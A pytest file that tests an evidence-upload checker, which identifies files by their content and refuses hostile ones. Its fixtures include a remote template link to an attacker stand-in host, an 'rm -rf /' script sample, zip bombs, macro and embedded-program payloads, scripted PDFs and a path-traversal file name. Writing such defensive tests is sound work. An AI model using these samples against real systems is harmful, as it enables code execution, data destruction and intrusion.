"""Evidence files: what they are is told by their content, in a child process with limits."""

import datetime
import stat

import pytest

from data_access.assessments import evidence, evidence_files, file_check_child
from data_access.assessments.file_check import media_type_of
from data_access.edits import rows_of
from data_access.loaders.reading import Limits
from data_access.stores import open_stores
from models.access import Viewer
from models.errors import EditRefused
from tests.data_access.assessments import hostile

WAVE = "2026-reassessment"
LEAD = Viewer("lead", "Lead", "force_lead", "kent")
DAY = datetime.date(2026, 2, 1)
RELATIONSHIPS = '<?xml version="1.0"?><Relationships>{}</Relationships>'
REMOTE = RELATIONSHIPS.format(
    '<Relationship Id="r1" Type="http://schemas.example/officeDocument/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/>'
).encode()
LOCAL = RELATIONSHIPS.format(
    '<Relationship Id="r1" Type="http://schemas.example/officeDocument/relationships/attachedTemplate" '
    'Target="file:///C:/Templates/force.dotx" TargetMode="External"/>'
).encode()
HYPERLINK = RELATIONSHIPS.format(
    '<Relationship Id="r1" Type="http://schemas.example/officeDocument/relationships/hyperlink" '
    'Target="https://www.gov.example/" TargetMode="External"/>'
).encode()

GOOD = {
    "register.pdf": (hostile.pdf, "application/pdf"),
    "shot.png": (lambda: hostile.picture("PNG"), "image/png"),
    "shot.JPG": (lambda: hostile.picture("JPEG"), "image/jpeg"),
    "shot.jpeg": (lambda: hostile.picture("JPEG"), "image/jpeg"),
    "terms.docx": (hostile.docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "assets.xlsx": (hostile.xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "board.pptx": (hostile.pptx, "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    "chart.pptx": (
        lambda: hostile.pptx(ppt__embeddings__Sheet1_dot_xlsx=hostile.xlsx()),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "policy.odt": (lambda: hostile.open_document("text"), "application/vnd.oasis.opendocument.text"),
    "assets.ods": (lambda: hostile.open_document("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
    "assets.csv": (lambda: "asset,owner\nRMS,Tŷ\n".encode(), "text/csv"),
    "notes.txt": (lambda: "\ufeffMinutes\r\n".encode(), "text/plain"),
    "force.docx": (
        lambda: hostile.docx(word___rels__settings_dot_xml_dot_rels=LOCAL),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "linked.docx": (
        lambda: hostile.docx(word___rels__more_dot_xml_dot_rels=HYPERLINK),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
}

BAD = {
    "empty.pdf": (lambda: b"", "empty"),
    "bomb.xlsx": (hostile.bomb, "unpacks to far more"),
    "lying bomb.xlsx": (hostile.lying_bomb, "damaged"),
    "macros.docx": (lambda: hostile.docx(word__vbaProject_dot_bin=hostile.OLD_OFFICE), "macros"),
    "renamed macros.docx": (lambda: hostile.docx(word__media__x_dot_bin=hostile.OLD_OFFICE), "old embedded object"),
    "declared macros.docx": (
        lambda: hostile.pptx(ppt__x_dot_rels=b'<R Type="http://x/vbaProject" Target="a.bin"/>'),
        "macros",
    ),
    "program within.docx": (lambda: hostile.docx(word__media__image1_dot_png=hostile.PE_PROGRAM), "program"),
    "named program.docx": (lambda: hostile.docx(word__run_dot_exe=b"text"), "program"),
    "script within.docx": (lambda: hostile.docx(word__run_dot_js=b"text"), "script"),
    "twice nested.pptx": (
        lambda: hostile.pptx(a_dot_xlsx=hostile.docx(b_dot_xlsx=hostile.xlsx())),
        "archive within an archive",
    ),
    "nested macros.pptx": (
        lambda: hostile.pptx(a_dot_xlsx=hostile.docx(word__vbaProject_dot_bin=b"x")),
        "macros",
    ),
    "remote template.docx": (lambda: hostile.docx(word___rels__s_dot_xml_dot_rels=REMOTE), "another host"),
    "entities.docx": (lambda: hostile.docx(word__x_dot_xml=b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"), "entities"),
    "climbing.docx": (lambda: hostile.docx(**{"../../x": b"text"}), "outside"),
    "macros.odt": (lambda: hostile.open_document("text", Basic__Standard__Module1=b"<x/>"), "macros"),
    "locked.odt": (
        lambda: hostile.open_document("text", manifest=b"<manifest:encryption-data/>"),
        "password",
    ),
    "plain.zip": (lambda: hostile.zipped({"a.txt": b"text"}), "archive, but not"),
    "archive.docx": (lambda: hostile.zipped({"a.txt": b"text"}), "archive, but not"),
    "locked.docx": (lambda: hostile.OLD_OFFICE, "locked with a password"),
    "old.doc": (lambda: hostile.OLD_OFFICE, "old Office file"),
    "program.pdf": (lambda: hostile.PE_PROGRAM, "no type that is accepted"),
    "program.txt": (lambda: hostile.PE_PROGRAM, "no type that is accepted"),
    "script.txt": (lambda: b"#!/bin/sh\nrm -rf /\n", "no type that is accepted"),
    "page.txt": (lambda: b"  <html><script>x</script></html>", "no type that is accepted"),
    "picture.svg": (lambda: b"<svg xmlns='x'/>", "no type that is accepted"),
    "latin.csv": (lambda: "Tŷ,Ystâd\n".encode("utf-16"), "no type that is accepted"),
    "document.pdf": (hostile.docx, "a Word document"),
    "document.docx": (hostile.pdf, "a PDF"),
    "noname": (hostile.pdf, "ends in nothing"),
    "scripted.pdf": (lambda: hostile.pdf(script=True), "scripts"),
    "hidden script.pdf": (hostile.pdf_with_hidden_script, "scripts"),
    "escaped script.pdf": (lambda: b"%PDF-1.7\n<< /S /Java#53cript >>\n%%EOF\n", "scripts"),
    "portfolio.pdf": (lambda: hostile.pdf(attachment=True), "other files"),
    "locked.pdf": (lambda: hostile.pdf(password="x"), "password"),
    "cut.pdf": (lambda: hostile.pdf()[:-40], "cut off"),
    "pdf and archive.pdf": (
        lambda: hostile.pdf() + hostile.zipped({"a.txt": b"x"}) + b"%%EOF",
        "archive and something",
    ),
    "picture and archive.png": (
        lambda: hostile.picture("PNG") + hostile.zipped({"a.txt": b"x"}),
        "archive and something",
    ),
    "picture and pdf.docx": (
        lambda: hostile.zipped({"%PDF-1.7": b"x", "[Content_Types].xml": hostile.CONTENT_TYPES}),
        "PDF and something",
    ),
    "picture and more.png": (lambda: hostile.picture("PNG") + b"more", "followed by something"),
    "cut.png": (lambda: hostile.picture("PNG")[:-6], "cut off"),
    "picture and more.jpg": (lambda: hostile.picture("JPEG") + b"more", "followed by something"),
}

CHILDREN = ("register.pdf", "shot.png", "terms.docx", "assets.ods", "bomb.xlsx", "lying bomb.xlsx", "hidden script.pdf")


@pytest.fixture
def stores(store_folder):
    opened = open_stores(store_folder, store_folder / "audit.key")
    yield opened
    opened.close()


def attach(stores, path, name):
    return evidence.attach_file(
        stores, LEAD, WAVE, "F1", title="Register", path=path, file_name=name, supports_level=3, evidence_date=DAY
    )


@pytest.fixture
def in_this_process(monkeypatch):
    """The check itself without the cost of a process: those of CHILDREN go through a real one."""
    for limit in ("limit_memory", "limit_cpu"):
        monkeypatch.setattr(file_check_child, limit, lambda value: None)
    monkeypatch.setattr(
        "data_access.assessments.file_check.run_limited",
        lambda module, folder, wall_seconds: file_check_child.main(folder),
    )


def is_accepted(tmp_path, name):
    make, media_type = GOOD[name]
    (path := tmp_path / "upload").write_bytes(make())
    return media_type_of(path, name) == media_type


def is_refused(tmp_path, name):
    make, reason = BAD[name]
    (path := tmp_path / "upload").write_bytes(make())
    with pytest.raises(EditRefused) as refused:
        media_type_of(path, name)
    return reason in refused.value.title


@pytest.mark.parametrize("name", GOOD)
def test_an_accepted_file_is_known_by_its_content(in_this_process, tmp_path, name):
    assert is_accepted(tmp_path, name)


@pytest.mark.parametrize("name", BAD)
def test_a_file_that_is_not_what_it_says_or_could_do_harm_is_refused_with_the_reason(in_this_process, tmp_path, name):
    assert is_refused(tmp_path, name)


@pytest.mark.parametrize("name", CHILDREN)
def test_a_limited_child_process_finds_the_same(tmp_path, name):
    assert is_accepted(tmp_path, name) if name in GOOD else is_refused(tmp_path, name)


def test_a_refused_file_leaves_neither_a_row_nor_a_file(stores, tmp_path):
    (path := tmp_path / "upload").write_bytes(hostile.bomb())
    with pytest.raises(EditRefused):
        attach(stores, path, "bomb.xlsx")
    assert [item for item in (stores.folder / "evidence").rglob("*") if item.is_file()] == []
    assert rows_of(stores, "assessments/evidence_of_force", wave_id=WAVE, force_id="kent") == []


@pytest.mark.parametrize(("size_bytes", "is_kept"), [(25 * 2**20, True), (25 * 2**20 + 1, False), (26 * 2**20, False)])
def test_a_file_may_have_25_mb_and_no_more(stores, tmp_path, size_bytes, is_kept):
    (path := tmp_path / "upload").write_bytes(b"x" * size_bytes)
    if is_kept:
        assert attach(stores, path, "notes.txt")
        return
    with pytest.raises(EditRefused) as refused:
        attach(stores, path, "notes.txt")
    assert "larger than 25 MB" in refused.value.title
    assert list((stores.folder / "evidence" / evidence_files.INCOMING).iterdir()) == []


def test_a_kept_file_is_for_the_service_account_alone_and_is_named_by_its_hash(stores, tmp_path):
    (path := tmp_path / "upload").write_bytes(b"Minutes")
    attach(stores, path, "../../../evil/../notes.txt")
    (kept,) = (item for item in (stores.folder / "evidence").rglob("*") if item.is_file())
    assert kept.name.startswith(kept.parent.name)
    assert len(kept.name) == 64
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert stat.S_IMODE(kept.parent.stat().st_mode) == 0o700
    (row,) = rows_of(stores, "assessments/evidence_of_force", wave_id=WAVE, force_id="kent")
    assert row["file_name"] == "notes.txt"


def test_the_same_file_is_kept_once(stores, tmp_path):
    (path := tmp_path / "upload").write_bytes(b"Minutes")
    first, second = attach(stores, path, "a.txt"), attach(stores, path, "b.txt")
    assert len([item for item in (stores.folder / "evidence").rglob("*") if item.is_file()]) == 1
    assert evidence.evidence_bytes(stores, LEAD, first) == evidence.evidence_bytes(stores, LEAD, second) == b"Minutes"


def test_a_damaged_kept_file_is_mended_by_attaching_it_again(stores, tmp_path):
    (path := tmp_path / "upload").write_bytes(b"Minutes")
    first = attach(stores, path, "a.txt")
    (kept,) = (item for item in (stores.folder / "evidence").rglob("*") if item.is_file())
    kept.write_bytes(b"Forgery")
    attach(stores, path, "a.txt")
    assert evidence.evidence_bytes(stores, LEAD, first) == b"Minutes"


def test_a_check_that_takes_too_long_or_too_much_memory_is_a_refusal(tmp_path):
    (path := tmp_path / "upload").write_bytes(b"x" * (20 * 2**20))
    with pytest.raises(EditRefused):
        media_type_of(path, "notes.txt", limits=Limits(wall_seconds=0))
    with pytest.raises(EditRefused):
        media_type_of(path, "notes.txt", limits=Limits(memory_bytes=60 * 2**20))
